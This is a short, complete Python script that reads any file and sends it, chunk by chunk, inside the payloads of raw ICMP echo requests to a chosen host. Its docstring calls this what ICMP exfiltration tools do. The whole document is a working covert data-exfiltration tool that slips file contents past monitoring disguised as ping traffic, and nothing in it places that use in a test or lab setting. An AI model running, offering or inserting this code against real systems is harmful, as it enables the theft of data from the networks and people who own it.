#!/usr/bin/python3
"""Sends a file as ICMP echo requests with arbitrary payloads (what icmp-exfil tools do), CHUNK bytes each."""
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    total += total >> 16
    return ~total & 0xffff


def main() -> None:
    target, path, chunk = sys.argv[1], sys.argv[2], int(sys.argv[3])
    data = open(path, 'rb').read()
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for seq, offset in enumerate(range(0, len(data), chunk)):
        payload = data[offset:offset + chunk]
        header = struct.pack('!BBHHH', 8, 0, 0, 0x4242, seq)
        header = struct.pack('!BBHHH', 8, 0, checksum(header + payload), 0x4242, seq)
        sock.sendto(header + payload, (target, 0))
        time.sleep(0.01)


if __name__ == '__main__':
    main()
